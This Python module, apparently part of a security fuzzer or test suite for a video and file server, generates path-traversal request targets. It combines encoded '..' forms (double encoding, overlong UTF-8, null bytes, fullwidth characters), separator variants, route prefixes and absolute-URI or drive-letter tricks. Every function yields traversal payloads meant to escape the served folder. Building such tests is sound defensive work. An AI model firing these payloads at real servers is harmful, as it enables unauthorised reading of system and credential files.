"""Ways out of a folder: `..`, `/` and absolute paths, in every spelling that some server has fallen for."""

from collections.abc import Iterator

PREFIXES = (
    b"/", b"/videos/", b"/chunked/", b"/files/", b"/files/Series/", b"/watch/", b"/embed/", b"/api/videos/",
    b"/assets/", b"/-/decision/", b"/-/decision/videos/", b"/-/version/", b"/-/exact/",
)  # fmt: skip
UPS = (
    b"..", b"%2e%2e", b"%2E.", b".%2e", b"%252e%252e", b"%25252e%25252e", b"%c0%ae%c0%ae", b"%c0%2e%c0%2e",
    b"%e0%80%ae%e0%80%ae", b"%uff0e%uff0e", b"%u002e%u002e", "\uff0e\uff0e".encode(), b"%ef%bc%8e%ef%bc%8e",
    b"\xc0\xae\xc0\xae", b"....", b"..;", b"..;x=y", b"..%00", b".%00.", b"..%0a", b"..%0d", b"..%09",
    b"..%20", b"..%23", b"..%3f", b"..#", b"..?", b"..~1",
)  # fmt: skip
SEPARATORS = (
    b"/", b"//", b"/./", b"%2f", b"%2F", b"%252f", b"%c0%af", b"%e0%80%af", b"\xc0\xaf", b"%u2215",
    "\u2215".encode(), "\uff0f".encode(), b"\\", b"%5c", b"%255c", b"\\/", b";/", b"/%00/", b"%00", b"--",
)  # fmt: skip
DEPTHS = (1, 12)
DIRECTLY = (
    b"/videos..", b"/files..", b"/assets..", b"/chunked..", b"/-..", b"/videos.", b"/files%2f..",
    b"/assets%00",
)  # fmt: skip
"""As an alias or a prefix without its slash is left."""


def targets(goals: list[bytes], prefix: bytes) -> Iterator[bytes]:
    """Yield request targets that lead from `prefix` to absolute paths, if anything does."""
    for goal in goals:
        for depth in DEPTHS:
            for up in UPS:
                yield prefix + (up + b"/") * depth + goal.lstrip(b"/")
            for separator in SEPARATORS:
                yield prefix + (b".." + separator) * depth + goal.lstrip(b"/").replace(b"/", separator)
        for separator in SEPARATORS:
            yield prefix + separator + goal.lstrip(b"/").replace(b"/", separator)
            yield prefix + goal.replace(b"/", separator)


def others(goals: list[bytes]) -> Iterator[bytes]:
    """Yield those that have no prefix: absolute URIs, other schemes, drives, a missing slash."""
    for goal in goals:
        yield from (goal, b"/" + goal, b"//" + goal, b"file://" + goal, b"http:" + goal, b"http://" + goal)
        yield from (
            b"http://a/.." + goal,
            b"http://a/videos/..%2f.." + goal,
            b"http://a" + goal,
            b"http:///" + goal,
        )
        yield from (b"/C:" + goal, b"/%5c%5ca%5c" + goal, b"*" + goal, b".." + goal, b"?" + goal, b"~" + goal)
        for directly in DIRECTLY:
            yield from (directly + goal, directly + b"/.." * 8 + goal, directly + b"%2f..%2f.." + goal)
